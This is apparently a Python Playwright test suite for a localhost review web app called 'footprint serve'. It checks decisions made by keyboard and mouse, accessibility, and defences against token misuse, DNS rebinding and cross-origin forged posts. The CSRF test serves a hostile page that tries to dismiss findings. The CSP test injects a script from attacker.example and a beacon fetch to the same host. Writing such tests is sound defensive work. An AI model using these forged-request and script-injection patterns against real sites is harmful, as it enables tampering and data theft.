"""`footprint serve` in a real browser: Debian's Chromium driven by Playwright, checked by axe-core.

Decisions by keyboard and mouse that survive a reload (and reach the JSON report), refusals of a
missing token, a wrong Host (DNS rebinding, with Chromium resolving a hostile name to
127.0.0.1) and a cross-origin POST (from another port of 127.0.0.1, which is the same *site*,
so the SameSite cookie alone would not stop it), the re-audit view, paging with j/k, the page
without script, and axe-core in English and French. Every server binds 127.0.0.1 on a free port
and is stopped when its test ends.

Needs `/usr/bin/chromium`, `playwright` (the dev extra; never `playwright install`) and, for axe,
`node_modules/axe-core` (`npm ci`); without them the tests are skipped with the reason.
"""

from __future__ import annotations

import json
import shutil
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from footprint import pipeline
from footprint.cli import main
from footprint.reports.context import findings_that_rose
from footprint.serve import ReviewServer
from footprint.store import Store

REPO = Path(__file__).resolve().parents[2]
EXAMPLE = REPO / "examples"
from tests.reports.browser import (  # noqa: E402 (skips this module without Chromium or Playwright)
    AXE,
    CHROMIUM,
    CHROMIUM_ARGS,
    LAUNCH_TIMEOUT_MS,
    PAGE_TIMEOUT_MS,
    RECORD_VIOLATIONS,
    WCAG_TAGS,
    needs_chromium,
    sync_api,
)

pytestmark = needs_chromium


# ---------------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def playwright() -> Iterator[Any]:
    with sync_api.sync_playwright() as running:
        yield running


@pytest.fixture(scope="module")
def browser(playwright: Any) -> Iterator[Any]:
    chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, timeout=LAUNCH_TIMEOUT_MS)
    try:
        yield chromium
    finally:
        chromium.close()


@pytest.fixture()
def context(browser: Any) -> Iterator[Any]:
    ctx = browser.new_context(viewport={"width": 1000, "height": 900}, locale="en-CA")
    ctx.set_default_timeout(PAGE_TIMEOUT_MS)
    ctx.add_init_script(RECORD_VIOLATIONS)
    try:
        yield ctx
    finally:
        ctx.close()


def _audit(db: Path, *extra: str) -> None:
    result = CliRunner().invoke(
        main,
        ["audit", str(EXAMPLE / "x-archive"), "--db", str(db), "-o", str(db.with_suffix(".json")),
         "--format", "json", "--exit-zero", "--quiet", *extra],
    )
    assert result.exit_code == 0, result.output


@pytest.fixture(scope="module")
def audited(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The bundled example audited once with its role profile, and a re-audit: first as a junior
    analyst, then with the example's profile (a promotion in view), which lifts some items."""
    folder = tmp_path_factory.mktemp("serve-dbs")
    _audit(folder / "example.db", "--profile", str(EXAMPLE / "role.toml"))
    junior = folder / "junior.toml"
    junior.write_text('organization = "ESDC"\nclassification = "CR-04"\npublic_facing = false\n')
    _audit(folder / "promoted.db", "--profile", str(junior))
    _audit(folder / "promoted.db", "--profile", str(EXAMPLE / "role.toml"))
    return {"example": folder / "example.db", "promoted": folder / "promoted.db"}


@pytest.fixture()
def db(audited: dict[str, Path], tmp_path: Path) -> Path:
    """A copy of the example's database this test may change."""
    copy = tmp_path / "example.db"
    shutil.copyfile(audited["example"], copy)
    return copy


@pytest.fixture()
def served(db: Path) -> Iterator[ReviewServer]:
    with Store(db) as store, ReviewServer(store, language="en") as server:
        yield server


def _open(context: Any, server: ReviewServer, query: str = "") -> Any:
    page = context.new_page()
    response = page.goto(server.link + (f"&{query}" if query else ""), wait_until="load")
    assert response is not None and response.status == 200
    # The token became a cookie and left the address bar.
    assert "token=" not in page.url
    return page


def _origin(server: ReviewServer) -> str:
    return f"http://127.0.0.1:{server.port}"


def _decisions(db: Path) -> dict[str, tuple[str, str | None]]:
    with Store(db) as store:
        return {row.finding_id: (row.decision, row.note) for row in store.decisions()}


def _card_ids(page: Any) -> list[str]:
    return page.eval_on_selector_all("#results li.finding", "items => items.map(li => li.id.slice(2))")


def _focused_card(page: Any) -> str | None:
    return page.evaluate(
        "() => { const li = document.activeElement.closest('li.finding'); return li ? li.id.slice(2) : null; }"
    )


def _wait_decision(page: Any, finding_id: str, decision: str) -> None:
    page.wait_for_function(
        "([id, want]) => { const li = document.getElementById('f-' + id); return li && li.dataset.decision === want; }",
        arg=[finding_id, decision],
    )


# ---------------------------------------------------------------- 1. deciding, and reloading


def test_three_decisions_by_keyboard_and_mouse_survive_a_reload(context: Any, served: ReviewServer, db: Path) -> None:
    page = _open(context, served)
    first, second, third, *rest = _card_ids(page)
    left_before = page.locator("#left").text_content()

    page.keyboard.press("j")
    assert _focused_card(page) == first
    page.keyboard.press("c")
    _wait_decision(page, first, "confirm")
    # A keyboard decision moves on to the next item, as the terminal review does.
    page.wait_for_function("(id) => document.activeElement.closest('li.finding')?.id === 'f-' + id", arg=second)
    page.keyboard.press("d")
    _wait_decision(page, second, "dismiss")
    # Said to screen readers: what was recorded and what is left.
    page.wait_for_function("() => document.getElementById('announce').textContent.startsWith('Dismissed')")
    assert "Left to review" in page.locator("#announce").text_content()

    # The third with the mouse: open "Accept with a note…", write why, click Accept.
    card = page.locator(f"#f-{third}")
    card.locator("details.accept summary").click()
    card.locator("textarea[name=note]").fill("Posté avant mon entrée dans la fonction publique 🇨🇦")
    card.get_by_role("button", name="Accept", exact=True).click()
    _wait_decision(page, third, "accept")
    assert "Posté avant" in page.locator(f"#f-{third} p.note").text_content()
    left_after = page.locator("#left").text_content()
    assert left_after != left_before

    # Written at once, as `footprint decide` writes them.
    assert _decisions(db) == {
        first: ("confirm", None),
        second: ("dismiss", None),
        third: ("accept", "Posté avant mon entrée dans la fonction publique 🇨🇦"),
    }
    page.reload(wait_until="load")
    # The default view lists what is not yet decided: the three are gone, the counter kept.
    assert not {first, second, third} & set(_card_ids(page))
    assert _card_ids(page)[: len(rest[:3])] == rest[:3]
    assert page.locator("#left").text_content() == left_after
    page.select_option("select[name=decision]", "decided")
    page.wait_for_function("() => document.querySelectorAll('#results li.finding').length === 3")
    assert sorted(_card_ids(page)) == sorted([first, second, third])
    assert page.locator(f"#f-{first}").get_attribute("data-decision") == "confirm"
    assert "decision=decided" in page.url
    assert page.evaluate("() => window.__cspViolations") == []


def test_decisions_reach_the_json_report_and_outlive_a_rescan(context: Any, served: ReviewServer, db: Path, tmp_path: Path) -> None:
    page = _open(context, served)
    target = _card_ids(page)[0]
    page.keyboard.press("j")
    page.keyboard.press("d")
    _wait_decision(page, target, "dismiss")
    with Store(db) as store:
        pipeline.scan(store, full=True)
        out = pipeline.write_report(store, fmt="json", output=tmp_path / "after.json")
    found = {f["id"]: f for f in json.loads(out.read_text(encoding="utf-8"))["findings"]}
    assert found[target]["decision"] == "dismiss"


def test_undo_and_an_accept_without_a_note(context: Any, served: ReviewServer, db: Path) -> None:
    page = _open(context, served)
    target = _card_ids(page)[0]
    page.keyboard.press("j")
    page.keyboard.press("a")
    # `a` opens the note field; Enter with nothing written is refused, nothing is saved.
    assert page.evaluate("() => document.activeElement.name") == "note"
    page.keyboard.press("Enter")
    error = page.locator(f"#f-{target} .error")
    assert error.text_content() == "Accepting needs a note saying why the item is acceptable."
    assert _decisions(db) == {}
    page.keyboard.type("Satire, clearly labelled")
    page.keyboard.press("Enter")
    _wait_decision(page, target, "accept")
    assert _decisions(db) == {target: ("accept", "Satire, clearly labelled")}
    # Back on the card, `u` takes the decision back.
    page.locator(f"#f-{target} article").focus()
    page.keyboard.press("u")
    _wait_decision(page, target, "undecided")
    assert _decisions(db) == {}
    # Escape leaves the note field and returns to the card; `/` goes to the filters.
    page.keyboard.press("a")
    page.keyboard.press("Escape")
    assert _focused_card(page) == target
    page.keyboard.press("/")
    assert page.evaluate("() => document.activeElement.name") == "category"


def test_shortcuts_can_be_turned_off(context: Any, served: ReviewServer, db: Path) -> None:
    page = _open(context, served)
    page.locator("#shortcuts").uncheck()
    page.keyboard.press("j")
    page.keyboard.press("c")
    page.wait_for_timeout(300)
    assert _decisions(db) == {}
    page.reload(wait_until="load")
    assert not page.locator("#shortcuts").is_checked()


def test_j_and_k_cross_page_boundaries(context: Any, served: ReviewServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("footprint.serve.PAGE_SIZE", 4)
    page = _open(context, served)
    first_page = _card_ids(page)
    assert len(first_page) == 4
    for _ in range(5):
        page.keyboard.press("j")
    page.wait_for_function("() => new URL(location.href).searchParams.get('page') === '2'")
    page.wait_for_function("(ids) => !ids.includes(document.querySelector('#results li.finding').id.slice(2))", arg=first_page)
    second_page = _card_ids(page)
    page.wait_for_function("(id) => document.activeElement.closest('li.finding')?.id === 'f-' + id", arg=second_page[0])
    page.keyboard.press("k")
    page.wait_for_function("(id) => document.activeElement.closest('li.finding')?.id === 'f-' + id", arg=first_page[-1])
    assert _card_ids(page) == first_page
    assert "Showing items 1 to 4 of" in page.locator("#shown-count").text_content()


def test_the_page_works_without_script(browser: Any, served: ReviewServer, db: Path) -> None:
    plain = browser.new_context(java_script_enabled=False)
    try:
        page = plain.new_page()
        page.goto(served.link, wait_until="load")
        target = _card_ids(page)[0]
        with page.expect_navigation():
            page.locator(f"#f-{target}").get_by_role("button", name="Confirm").click()
        assert _decisions(db) == {target: ("confirm", None)}
        assert target not in _card_ids(page)
        # An accept without a note shows the page again with the reason; nothing saved.
        other = _card_ids(page)[0]
        card = page.locator(f"#f-{other}")
        card.locator("details.accept summary").click()
        with page.expect_navigation():
            card.get_by_role("button", name="Accept", exact=True).click()
        assert "Accepting needs a note" in page.locator(f"#f-{other} .error").text_content()
        assert other not in _decisions(db)
    finally:
        plain.close()


# ----------------------------------------------------------------------- 2. the re-audit view


def test_a_reaudit_opens_on_what_became_priority(context: Any, audited: dict[str, Path], tmp_path: Path) -> None:
    db = tmp_path / "promoted.db"
    shutil.copyfile(audited["promoted"], db)
    with Store(db) as store:
        rose = {f.id for f in findings_that_rose(store)}
        assert rose, "the promotion in view should lift some items to priority"
        with ReviewServer(store, language="en") as server:
            page = _open(context, server)
            assert page.locator(".reaudit").is_visible()
            assert page.locator("select[name=since]").input_value() == "last"
            assert set(_card_ids(page)) == rose
            for finding in _card_ids(page):
                assert "rose" in page.locator(f"#f-{finding}").get_attribute("data-priority")
            page.get_by_role("link", name="Show every item not yet decided").click()
            page.wait_for_load_state("load")
            assert len(_card_ids(page)) > len(rose)


# ---------------------------------------------------------------------------- 3. refusals


def test_no_token_or_a_wrong_one_is_refused(browser: Any, served: ReviewServer) -> None:
    stranger = browser.new_context()
    try:
        page = stranger.new_page()
        assert page.goto(f"{_origin(served)}/", wait_until="load").status == 401
        assert "private link" in page.content()
        assert page.goto(f"{_origin(served)}/?token=not-the-token", wait_until="load").status == 403
        assert page.goto(f"{_origin(served)}/static/serve.js").status == 401
        status = page.evaluate(
            "(url) => fetch(url, {method: 'POST', body: new URLSearchParams({id: 'x', decision: 'confirm'})}).then(r => r.status)",
            f"{_origin(served)}/decide",
        )
        assert status == 401
    finally:
        stranger.close()


def test_a_hostile_name_resolving_to_loopback_is_refused(playwright: Any, served: ReviewServer) -> None:
    # DNS rebinding: a site's name made to resolve to 127.0.0.1. Chromium's resolver is told so
    # here; the Host header then names the site, and the server refuses it, token or not.
    rebinding = playwright.chromium.launch(
        executable_path=str(CHROMIUM),
        args=[*CHROMIUM_ARGS, "--host-resolver-rules=MAP rebind.example 127.0.0.1"],
        timeout=LAUNCH_TIMEOUT_MS,
    )
    try:
        page = rebinding.new_page()
        response = page.goto(f"http://rebind.example:{served.port}/?token={served.app.token}")
        assert response is not None and response.status == 403
        assert "only at 127.0.0.1" in page.content()
    finally:
        rebinding.close()


class _Attacker(BaseHTTPRequestHandler):
    """Another site on this computer (another port of 127.0.0.1): its page tries to decide."""

    target = ""
    finding = ""

    def do_GET(self) -> None:  # noqa: N802
        page = f"""<!DOCTYPE html><html lang="en"><title>other</title><body>
<form id="f" method="post" action="{self.target}/decide">
<input name="id" value="{self.finding}"><input name="decision" value="dismiss"><input name="csrf" value="guess">
</form>
<script>
window.fetchStatus = fetch("{self.target}/decide", {{method: "POST", credentials: "include", mode: "no-cors",
  headers: {{"Content-Type": "application/x-www-form-urlencoded"}},
  body: "id={self.finding}&decision=dismiss"}}).then(r => r.type).catch(e => "blocked");
</script></body></html>"""
        body = page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_args: Any) -> None:
        return


def test_a_cross_origin_post_is_refused(context: Any, served: ReviewServer, db: Path) -> None:
    page = _open(context, served)  # the person's browser holds the session cookie
    target = _card_ids(page)[0]
    attacker = ThreadingHTTPServer(("127.0.0.1", 0), _Attacker)
    _Attacker.target, _Attacker.finding = _origin(served), target
    thread = threading.Thread(target=attacker.serve_forever, daemon=True)
    thread.start()
    try:
        seen: list[tuple[str, int]] = []
        context.on("response", lambda r: seen.append((r.url, r.status)) if r.url.endswith("/decide") else None)
        hostile = context.new_page()
        hostile.goto(f"http://127.0.0.1:{attacker.server_address[1]}/", wait_until="load")
        hostile.evaluate("() => window.fetchStatus")
        with hostile.expect_navigation():
            hostile.evaluate("() => document.getElementById('f').submit()")
        assert "Refused" in hostile.content()
        assert seen and all(status == 403 for _, status in seen), seen
        assert _decisions(db) == {}
    finally:
        attacker.shutdown()
        attacker.server_close()


# ------------------------------------------------------------------ 4. accessibility and CSP


@pytest.mark.parametrize("language", ["en", "fr"])
def test_axe_finds_no_wcag21_aa_violation(context: Any, audited: dict[str, Path], tmp_path: Path, language: str) -> None:
    if not AXE.exists():
        pytest.skip(f"{AXE.relative_to(REPO)} is absent: run `npm ci` (package.json pins axe-core)")
    db = tmp_path / "promoted.db"
    shutil.copyfile(audited["promoted"], db)
    with Store(db) as store, ReviewServer(store, language=language) as server:
        page = _open(context, server)
        # One decided card and one open note field, so their controls are checked too.
        first = _card_ids(page)[0]
        page.keyboard.press("j")
        page.keyboard.press("c")
        _wait_decision(page, first, "confirm")
        page.locator(f"#f-{_card_ids(page)[1]} details.accept summary").click()
        page.evaluate(AXE.read_text(encoding="utf-8") + "\n;void 0")
        result = page.evaluate(
            """async (tags) => {
              const r = await axe.run(document, {runOnly: {type: "tag", values: tags}});
              return r.violations.map(v => ({id: v.id, nodes: v.nodes.map(n => n.target.join(" "))}));
            }""",
            WCAG_TAGS,
        )
        assert result == []
        assert page.evaluate("() => document.documentElement.lang") == language
        assert page.evaluate("() => window.__cspViolations") == []
        if language == "fr":
            assert "Éléments à examiner" in page.content()
            assert "Items to review" not in page.content()


def test_nothing_is_loaded_from_anywhere_else(context: Any, served: ReviewServer) -> None:
    requested: list[str] = []
    context.on("request", lambda request: requested.append(request.url))
    page = _open(context, served)
    page.keyboard.press("j")
    page.wait_for_timeout(200)
    assert requested and all(url.startswith(_origin(served) + "/") for url in requested), requested
    blocked = page.evaluate(
        """() => new Promise((resolve) => {
          const seen = [];
          document.addEventListener("securitypolicyviolation", (e) => {
            seen.push(e.effectiveDirective); if (seen.length === 3) { resolve(seen.sort()); } });
          const s = document.createElement("script"); s.src = "https://attacker.example/x.js"; document.body.append(s);
          const i = document.createElement("script"); i.textContent = "window.__injected = 1"; document.body.append(i);
          fetch("https://attacker.example/beacon").catch(() => {});
          setTimeout(() => resolve(seen.sort()), 3000);
        })"""
    )
    assert blocked == ["connect-src", "script-src-elem", "script-src-elem"]
    assert page.evaluate("() => window.__injected === undefined")


@pytest.mark.parametrize("language", ["en", "fr"])
def test_the_page_fits_a_phone_screen(browser: Any, served: ReviewServer, language: str) -> None:
    phone = browser.new_context(viewport={"width": 390, "height": 844})
    try:
        page = phone.new_page()
        page.goto(served.link + f"&lang={language}", wait_until="load")
        page.locator("#results details.accept summary").first.click()
        wide = page.evaluate(
            """() => {
              const width = document.documentElement.clientWidth;
              return {scroll: document.documentElement.scrollWidth, width,
                      over: [...document.querySelectorAll("body *")]
                        .filter(e => e.getBoundingClientRect().right > width + 0.5)
                        .map(e => e.tagName.toLowerCase() + (e.className ? "." + e.className : "")).slice(0, 8)};
            }"""
        )
        assert wide["scroll"] <= wide["width"], wide
    finally:
        phone.close()
